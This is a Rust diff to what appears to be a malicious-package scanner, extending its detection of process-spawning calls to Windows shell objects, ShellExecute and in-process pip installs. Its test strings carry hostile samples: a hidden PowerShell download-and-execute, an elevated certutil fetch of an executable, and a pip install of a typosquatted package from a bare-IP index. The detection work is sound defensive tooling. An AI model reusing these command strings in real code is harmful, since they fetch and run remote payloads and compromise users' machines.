@@ -39,19 +39,35 @@ pub fn is_spawn(qualname: &str) -> bool {
             | "asyncio.create_subprocess_shell"
             | "asyncio.create_subprocess_exec"
             | "popen2.popen2"
-    ) || (q.starts_with("subprocess.")
-        && matches!(
-            q.trim_start_matches("subprocess."),
-            "Popen"
-                | "run"
-                | "call"
-                | "check_call"
-                | "check_output"
-                | "getoutput"
-                | "getstatusoutput"
-        ))
+            | "WScript.Shell.Run"
+            | "WScript.Shell.Exec"
+            | "Shell.Application.ShellExecute"
+            | "ctypes.windll.shell32.ShellExecuteW"
+            | "ctypes.windll.shell32.ShellExecuteA"
+            | "win32api.ShellExecute"
+    ) || is_pip_main(q)
+        || (q.starts_with("subprocess.")
+            && matches!(
+                q.trim_start_matches("subprocess."),
+                "Popen"
+                    | "run"
+                    | "call"
+                    | "check_call"
+                    | "check_output"
+                    | "getoutput"
+                    | "getstatusoutput"
+            ))
         || (q.starts_with("os.exec") && q.len() <= 10)
         || (q.starts_with("os.spawn") && q.len() <= 11)
+}
+
+/// pip's command-line entry point called in-process (`pip.main(['install', …])`): the same
+/// `pip …` command as a subprocess would run, without a process.
+fn is_pip_main(qualname: &str) -> bool {
+    matches!(
+        qualname,
+        "pip.main" | "pip._internal.main" | "pip._internal.cli.main.main"
+    )
 }
 
 /// Where the command line of an exec- or spawn-family call is.
@@ -60,6 +76,9 @@ enum Argv {
     List(usize),
     /// The arguments from this position on (`os.execl(path, arg0, arg1, ...)`).
     Spread(usize),
+    /// The program at this position and its parameters after it, and nothing further
+    /// (`ShellExecuteW(hwnd, verb, file, params, directory, show)`).
+    ProgramAndParameters(usize),
 }
 
 fn argv_position(qualname: &str) -> Option<Argv> {
@@ -69,6 +88,10 @@ fn argv_position(qualname: &str) -> Option<Argv> {
         "os.spawnv" | "os.spawnve" | "os.spawnvp" | "os.spawnvpe" => Some(Argv::List(2)),
         "os.execl" | "os.execle" | "os.execlp" | "os.execlpe" => Some(Argv::Spread(1)),
         "os.spawnl" | "os.spawnle" | "os.spawnlp" | "os.spawnlpe" => Some(Argv::Spread(2)),
+        "ctypes.windll.shell32.ShellExecuteW"
+        | "ctypes.windll.shell32.ShellExecuteA"
+        | "win32api.ShellExecute" => Some(Argv::ProgramAndParameters(2)),
+        "Shell.Application.ShellExecute" => Some(Argv::ProgramAndParameters(0)),
         _ => None,
     }
 }
@@ -581,7 +604,12 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     let spread_argv;
     let command_arg = match argv_position(qualname) {
         Some(Argv::List(at)) => args.get(at),
-        Some(Argv::Spread(at)) => {
+        Some(argv @ (Argv::Spread(at) | Argv::ProgramAndParameters(at))) => {
+            let count = if matches!(argv, Argv::Spread(_)) {
+                64
+            } else {
+                2
+            };
             spread_argv = ruff_python_ast::Expr::List(ruff_python_ast::ExprList {
                 node_index: ruff_python_ast::AtomicNodeIndex::default(),
                 range: call.range(),
@@ -589,7 +617,8 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
                     .get(at..)
                     .unwrap_or_default()
                     .iter()
-                    .take(64)
+                    .take(count)
+                    .filter(|arg| !arg.is_none_literal_expr())
                     .cloned()
                     .collect(),
                 ctx: ruff_python_ast::ExprContext::Load,
@@ -601,6 +630,12 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
     .or_else(|| super::keyword(call, "args"));
     let command = command_arg.and_then(|arg| super::command_text(checker, arg));
     let partial = command_arg.and_then(|arg| super::partial_command_text(checker, arg));
+    let (command, partial) = if is_pip_main(qualname) {
+        let as_command = |arguments: String| format!("pip {arguments}");
+        (command.map(as_command), partial.map(as_command))
+    } else {
+        (command, partial)
+    };
     let shown = super::argument_text(checker, call);
     // What the command is known to say: all of it, or its constant parts.
     let known = command.as_ref().or(partial.as_ref());
@@ -1121,6 +1156,17 @@ pub(crate) fn runs_saved_file(
     // A dot-file, or a start that throws every line of output away, is hiding from the user.
     let concealed = name.starts_with('.') || discards_output(command);
     let severity = match (context, downloaded) {
+        // A program carried encoded and unpacked to disk: while loading or installing, a
+        // hidden second stage; when called, what bootstrap scripts do (get-pip.py unpacks
+        // the pip it embeds and puts it on the import path).
+        (ExecContext::Install | ExecContext::Import, _) if saved.is_unpacked() => 0.85,
+        (ExecContext::Runtime, _) if saved.is_unpacked() => {
+            if concealed {
+                0.3
+            } else {
+                0.15
+            }
+        }
         (ExecContext::Install | ExecContext::Import, true) => 0.9,
         (ExecContext::Install | ExecContext::Import, false) => 0.8,
         (ExecContext::Runtime, true) if concealed => 0.75,
@@ -1262,6 +1308,21 @@ mod tests {
     #![allow(clippy::expect_used)]
     use super::*;
     use crate::rules::testing::max_severity;
+
+    #[test]
+    fn windows_shell_objects_and_pip_main_start_commands() {
+        let wscript = "import win32com.client\nshell = win32com.client.Dispatch('WScript.Shell')\nshell.Run('powershell -w hidden -c \"iwr https://x.example/a.ps1 | iex\"', 0)\n";
+        assert!(max_severity("p/pkg/__init__.py", wscript, "WH120") >= 0.8);
+        // Other COM objects' `Run` (Excel runs a macro) start no process.
+        let excel = "import win32com.client\napp = win32com.client.Dispatch('Excel.Application')\napp.Run('powershell iex')\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", excel, "WH120"), 0.0);
+        let shortcut = "import win32com.client\nshell = win32com.client.Dispatch('WScript.Shell')\nlink = shell.CreateShortcut('x.lnk')\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", shortcut, "WH120"), 0.0);
+        let elevate = "import ctypes\nctypes.windll.shell32.ShellExecuteW(None, 'runas', 'cmd.exe', '/c certutil -urlcache -f https://x.example/a.exe a.exe', None, 0)\n";
+        assert!(max_severity("p/pkg/__init__.py", elevate, "WH120") >= 0.8);
+        let pip = "from pip._internal import main\nmain(['install', '--index-url', 'http://203.0.113.9:8080/simple', 'reqeusts'])\n";
+        assert!(max_severity("p/setup.py", pip, "WH120") >= 0.7);
+    }
 
     #[test]
     fn a_silenced_interpreter_on_a_computed_script_is_a_second_stage() {
